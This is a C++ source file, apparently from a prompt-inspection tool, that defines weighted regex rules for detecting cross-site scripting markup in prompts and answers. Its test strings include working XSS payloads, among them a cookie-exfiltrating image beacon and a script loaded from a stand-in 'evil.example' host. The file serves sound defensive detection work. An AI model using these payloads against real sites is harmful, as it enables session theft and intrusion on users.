// Active markup: what a browser would run if the prompt or its answer were shown as HTML. Markup that is quoted in a
// question about it weighs little by itself; what only an attack has weighs much.
#include "gate/inspect/prompt/families.h"

namespace gatehouse::prompt {
namespace {

#define PROBE "(?:alert|prompt|confirm|print)\\s?(?:\\(|`|&#|&lpar|%28|\\\\u0028|\\\\x28)"
#define HANDLER "\\bon[a-z]{3,24}\\s?="
#define PROBING                                                                        \
  "\\s?[\"'`]?\\s?(?:javascript:\\s?)?(?:[a-z.\\[\\]\"'()]{0,24}[;=({\\s])?\\s?" PROBE \
  "\\s?[\"'`]?[0-9a-z/.\"'`]{0,12}\\)?\\s?[\"'`]?\\s?"

// Behind "javascript:", what does something: not void(0), nor ";", nor a step back in the history, with nothing behind
// it.
#define DOES                                                                                           \
  "(?:[^hv;\"'#\\s]|h[^i]|v[^o]|history\\.[^bg]|void\\s?(?:\\(\\s?[^0o)\\s]|[^(0o\\s])|(?:void\\s?(?:" \
  "\\([0o]\\)|[0o])|history\\.(?:back|go)\\([-0-9]{0,3}\\))\\s?;?\\s?[^\"'\\s>;]|[;#]\\s?[^\"'\\s>;])"

constexpr Rule kMarkupRules[] = {
    {"a script that probes",
     kCertain,
     "<\\s?script[^>]{0,200}>\\s?(?:[^<\\s]{0,72}|[^<]{0,72}?[^<a-z\\s]\\s?)(?:javascript:)?(?:[a-z]{0,8}[;({\\s]\\s?)"
     "?" PROBE
     "|<\\s?script[^>]{0,80}>\\s?(?:(?:window\\.|self\\.)?(?:document\\.)?(?:cookie|location|write\\s?\\(\\s?(?:string|"
     "unescape|atob))|(?:window\\.)?location\\s?=|eval\\s?\\(|string\\.fromcharcode)",
     {"<script>alert('xss')</script>", "<ScRiPt >prompt(1)</script>", "<script>document.location='//x'</script>"},
     {"<script src=\"app.js\"></script>", "<script>function alertUser() {}</script>",
      "show me a <script> that shows alert('Hello')"}},
    {"a handler that probes",
     kCertain,
     "(" HANDLER ")" PROBING "(?:>|//|/|<|\\n|;|\\s[a-z]{1,24}=)|" HANDLER PROBING
     "$|<(?:img|svg|body|iframe|video|audio|input|object|details|marquee|math|embed|isindex|style|"
     "x|a|b|div|form|select|textarea|keygen|frameset|table|bgsound|link|meta|base|source|image|button|p)[\\s/"
     "][^>]{0,300}(" HANDLER ")\\s?[\"'`]?\\s?(?:javascript:|" PROBE
     "|eval|window|document\\.(?:cookie|location|write|domain|body|scripts)|top\\[|self\\[|location|this\\.(?:[^s]|s[^"
     "r]|src\\s?=[^>]{0,80}(?:cookie|storage|\\+|`))|throw\\b|"
     "import\\(|"
     "fetch\\(|\\(|&#|\\\\|%|[a-z]=|write)",
     {"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\" onmouseover=alert(1) \""},
     {"<button onclick=\"save()\">", "The on switch = off", "<body onload=\"document.forms[0].submit()\">",
      "<img src=\"a.png\" onerror=\"this.src='b.png'\">"}},
    {"javascript in a link",
     kCertain,
     "(?:href|src|action|formaction|data|xlink:href|background|dynsrc|lowsrc|code|classid|poster|url|content|from|to|"
     "values|folder|style|codebase|srcdoc|archive|profile|longdesc)\\s?(?:=|\\(|:)\\s?[^a-z<>]{0,8}(?:&[#a-z0-9]{1,8};|"
     "[\\x00-\\x20]){0,4}((?:javascript|vbscript|livescript|mocha)\\s?(?::\\s?" DOES
     "|&|\\\\|%)|jav&[#a-z0-9]{1,8};?ascript|"
     "java[\\s/"
     "*]{1,8}script|data:\\s?(?:text/html|image/svg|application/(?:xhtml|xml)|,<|;base64|text/"
     "javascript|[^,]{0,30},\\s?(?:<|%3c|alert)))",
     {"<a href=\"javascript:alert(1)\">", "src=data:text/html,<script>", "<iframe src=\"vbscript:x\""},
     {"href=\"/about\"", "src=\"data:image/png;base64,AAA\"", "Code:\n```javascript\nlet a", "data: javascript files",
      "<a href=\"javascript:void(0)\">", "<a href=\"javascript:;\">"}},
    {"javascript that probes",
     kCertain,
     "\\b(?:javascript|vbscript)\\s?(?::|&colon;|&#58;|&#x3a;)\\s?[^\\n]{0,40}?(?:" PROBE
     "|msgbox|eval|document\\.|window\\.|location|string\\.fromcharcode|void\\s?(?:\\(\\s?[^0o)\\s]|[^(0o\\s])|//|%)",
     {"javascript:alert(1)", "javascript:void(document.cookie)"},
     {"JavaScript: the good parts"}},
    {"out of an attribute",
     kCertain,
     "(?:^|[\\s(:,>\\\\`]|[^=][\"'])[\"'`]\\s?/"
     "?>\\s?<\\s?(?:script|img|svg|iframe|body|video|audio|object|embed|meta|link|style|input|a\\s|x\\b|h1|marquee|"
     "details|form|base|b\\b|plaintext)|</"
     "(?:title|textarea|script|style|noscript|xmp|iframe|template|noembed|select|option)> ?[\"'>;-]{0,4} "
     "?<\\s?/?(?:script|img|svg|iframe|body)[\\s/"
     ">]|[\"'][;)\\]}]{1,3}\\s?(?:alert|prompt|confirm|eval)\\s?\\(|[\"']\\s?[-+*^|&/"
     "%;]\\s?(?:alert|prompt|confirm|eval)\\s?[(`].{0,16}[-+*^|&/%;]\\s?[\"']?|--!?> ?<\\s?(?:script|img|svg)",
     {"\"><script src=//x></script>", "';alert(1);'", "</title><svg onload=x>"},
     {"<a href=x>y</a>", "say 'hi'", "<div class=\"a b\">\n  <h1>x</h1>", "<meta name=\"a\"><script src=\"a.js\">",
      "</template>\n<script setup lang=\"ts\">"}},
    {"a tag spelled to slip through",
     kCertain,
     "<\\s?script\\s(?:[a-z]{1,4}\\s?=\\s?)?[\"'](?:[a-z=]{0,4}[\"'])?>|<\\s?[a-z]{1,12}\\s?/"
     "\\s?on[a-z]{4,14}\\s?=|<\\s?"
     "script\\s[^>]{0,40}vbscript",
     {"<script a=\">'>\" src=\"//x.example/a.js\">", "<SCRIPT \"a='>'\" SRC=x>", "<body/onload=f()>"},
     {"<script src=\"app.js\"></script>", "<br/>on time = good", "<body onload=\"init()\">"}},
    {"a script from elsewhere",
     kCertain,
     "<\\s?script[^>]{0,80}(?:src|href|xlink:href)\\s?=\\s?[\"'`]?(?://|\\\\\\\\|data:|http://"
     "[^\\s\"'>]{0,60}(?:xss|evil|attack|ckers)|https?://(?:[0-9]{1,3}\\.){3}|/\\\\)|<\\s?/?script/"
     "|<\\s?script\\s?<|<<\\s?script|<\\s?scr\\x00?<\\s?script|<scr<script|%3cscript|\\\\x3cscript|\\\\u003cscript|\\+"
     "adw-script|&lt;?script&gt;?|\xc2\xbc\\s?script",
     {"<script src=//evil.example/x.js>", "<<script>alert", "%3Cscript%3E"},
     {"<script src=\"https://cdn.example.com/react.js\"></script>", "<script src=\"/js/app.js\">"}},
    {"cookies sent away",
     kCertain,
     "(?:document|this|self|top|window|frames)\\s?(?:\\.|\\[\\s?[\"'`])\\s?(?:cookie\\b.{0,60}(?:http|//"
     "|\\+|\\()|(?:domain|location)(?:\\.href)?\\b[\"'`\\]\\s]{0,3}=\\s?[\"'`(]{0,2}(?:http|//"
     "|java|data:)|location\\s?\\.\\s?(?:assign|replace)\\s?\\(\\s?[\"'`]?(?:http|//"
     "|java|data:))|(?:location|\\.src|fetch|xmlhttprequest|sendbeacon|open).{0,60}document\\.cookie|\\balert\\s?\\("
     "\\s?(?:"
     "document\\.(?:cookie|domain|location)|[\"'`/]?xss|string\\.fromcharcode|/"
     "xss|window\\.|self|origin|top|[0-9]{1,6}\\s?\\)\\s?[\"'`;/>]{0,3}\\s?(?:<|//|\\x22))",
     {"new Image().src='//x/?c='+document.cookie", "alert(document.cookie)", "alert('XSS')"},
     {"document.getElementById('x')", "alert('Saved!')", "window.location.search.get(1)"}},
    {"odd tags",
     kCertain,
     "<\\s?(?:svg|math|iframe|object|embed|isindex|frameset|bgsound|applet|base|xml|xss|layer|ilayer|keygen|marquee|"
     "plaintext|animate|set\\s|foreignobject|noembed)[\\s/"
     "][^>]{0,200}?(?:on[a-z]{3,20}\\s?=|javascript|(?:src|href|data|code|srcdoc|from|to|values|style)\\s?=\\s?[\"'`]?("
     "?:&|%|\\\\|//|data:|javascript|about:|vbs|\\#|http://"
     "(?:ha\\.ckers|xss)))|<\\s?meta[^>]{0,80}(?:refresh|set-cookie|link|utf-7)[^>]{0,80}(?:javascript|data:|url\\s?=|<"
     "|utf-7)|<\\s?link[^>]{0,60}(?:href\\s?=\\s?[\"']?(?:javascript|http://ha|data:|//"
     "))|<\\s?style[^>]{0,60}>[^<]{0,80}(?:@import|expression\\s?\\(|javascript\\s?:|-moz-binding|behaviou?r\\s?:|\\\\["
     "0-9a-f]{2})|style\\s?=\\s?[^>]{0,80}(?:expression\\s?(?:\\(|/"
     "|\\\\)|javascript|behaviou?r\\s?:|-moz-binding|-o-link|\\\\[0-9]{2,})|<\\s?!\\[cdata\\[.{0,24}(?:script|<\\s?[a-"
     "z]{1,12}\\s|alert|on[a-z]{4,12}=)|<\\s?!entity|<\\?xml-"
     "stylesheet|xmlns(?::[a-z]+)?\\s?=[^>]{0,80}(?:script|<)|<x:script|<!--\\[if|<html:script|<\\?import",
     {"<iframe src=\"javascript:x\">", "<meta http-equiv=\"refresh\" content=\"0;url=data:x\">",
      "style=\"width: expression(alert(1))\""},
     {"<style>body { color: red }</style>", "<svg viewBox=\"0 0 1 1\"></svg>", "a `<![CDATA[` section",
      "`<style>`, no JavaScript"}},
    {"code from characters",
     kCertain,
     "string\\s?\\.\\s?fromcharcode\\s?\\(\\s?[0-9,\\s]{8,}|\\beval\\s?[(`]\\s?(?:atob|unescape|string|name|location|"
     "this|\\\\|\\+|[\"'`]\\\\|function|decodeuri|[\"'`](?:al|ale|a\\\\))|\\bfunction\\s?\\(\\s?[\"'`](?:al|"
     "\\\\)|\\(\\s?\\[\\]\\s?\\[|\\[\\s?\\+?!\\+?\\[\\]|\\$\\s?=\\s?~\\s?\\[\\]|\\b(?:window|self|top|parent|frames|"
     "this|globalthis)\\s?\\[\\s?[\"'`/"
     "(][^\\]]{0,40}\\]\\s?[(`]|\\.constructor\\s?\\(\\s?[\"'`]|\\bset(?:timeout|interval)\\s?[(`]\\s?[\"'`]?(?:alert|"
     "\\\\|al)|"
     "\\bjsfuck|\\ba=alert|=\\s?alert\\b|\\(alert\\)|\\balert\\s?\\?\\.\\(|throw[/"
     "\\s]{1,2}(?:1|onerror|alert)|onerror\\s?=\\s?alert",
     {"eval(String.fromCharCode(97,108,101,114,116))", "eval(atob('YWxlcnQoMSk='))", "([][(![]+[])"},
     {"evaluate(x)", "eval(x)", "const x = [];", "throwOnError: true", "super.constructor(name)"}},
    {"a handler",
     kStrong,
     "<[a-z][^>]{0,200}[\\s/"
     "\"']on(?:error|load|mouse[a-z]+|focus[a-z]*|blur|click|toggle|start|begin|end|finish|bounce|scroll|drag[a-z]*|"
     "pointer[a-z]+|animation[a-z]+|transition[a-z]+|wheel|key[a-z]+|cut|copy|paste|beforescript[a-z]*|"
     "readystatechange|resize|show|page[a-z]+|hashchange|message|input|change|submit|activate|deactivate|"
     "beforeactivate|propertychange|filterchange|canplay[a-z]*|loadstart|loadeddata|loadedmetadata|afterscriptexecute|"
     "afterprint|beforeprint|beforeunload|unload|popstate|storage|invalid|search|select[a-z]*|contextmenu|dblclick|"
     "media[a-z]*|outofsync|repeat|reset|rowexit|seek|syncrestored|timeerror|trackchange|urlflip|webkit[a-z]+|auxclick|"
     "fullscreenchange|gotpointercapture|play[a-z]*|pause|touch[a-z]+|cellchange|datasetchanged|dataavailable|help|"
     "losecapture|move|resizestart)\\s?=",
     {"<img src=x onerror=go()>", "<body/onload=x>"},
     {"onward = 1"}},
    {"ways that only some browsers run",
     kCertain,
     "=\\s?[\"'`]?\\s?j\\s?a\\s?v\\s?a\\s?s\\s?c\\s?r\\s?i\\s?p\\s?t\\s?:\\s?a|\\bdata(?:src|formatas|fld)\\s?=\\s?["
     "\"'`]?[#a-z]|attributename\\s?=\\s?[\"'`]?(?:xlink:)?(?:href|on[a-z])|\\bxlink:href\\s?=\\s?[\"'`]?//"
     "|<\\s?(?:import|\\?import)\\s[^>]{0,80}implementation|charset\\s?=\\s?[\"'`]?utf-7|\\beval\\s?\\.\\s?call\\s?\\(|"
     "\\bexecute\\s?\\(\\s?msgbox|<\\s?xss\\b|<\\s?xml\\s[^>]{0,40}\\bsrc\\s?=|\\bmhtml:|view-source:|"
     "allowscriptaccess\\s?=\\s?[\"'`]?always|\\bontoggle\\s?=|on[a-z]{4,20}\\s?=\\s?[\"'`]{0,3}[^a-z<>=]{0,4}vbs",
     {"<iframe src=j avascript:alert(1)>", "<label datasrc=\"#x\" dataformatas=\"html\">",
      "<set attributeName=\"xlink:href\" to=\"x\">", "<xss>"},
     {"a data source", "charset=utf-8", "java script: an introduction"}},
    {"script tags",
     kWeak,
     "<\\s?/?\\s?(?:script|iframe|object|embed|applet)\\b",
     {"<script>", "</ script"},
     {"a script", "<scripts>"}},
    {"asks about markup",
     -3 * kCertain,
     "^(?:how|why|what|which|does|do|is|are|can|could|explain|describe|will|would)\\b[^\\n]{0,240}\\s(?:xss|csp|"
     "content\\ssecurity\\spolicy|sanitiz(?:e|es|er|ing)|escap(?:e|es|ed|ing)|dompurify|owasp|cross-site|<?(?:img|"
     "script|svg|body|iframe|a|input)>?\\s(?:tags?|elements?|attributes?))(?:\\?|[\\s,][^\\n]{0,120}\\?)\\s?$",
     {"Does a content security policy stop onerror=alert(1)?", "Why is <img src=x onerror=alert(1)> a test for XSS?",
      "Can svg onload=alert(1) run inside an <img> tag?"},
     {"What is the price of <script>alert(1)</script> in your shop?", "I wrote xss: <img src=x onerror=alert(1)>"}},
};

}  // namespace

std::span<const Rule> MarkupRules() { return kMarkupRules; }

}  // namespace gatehouse::prompt
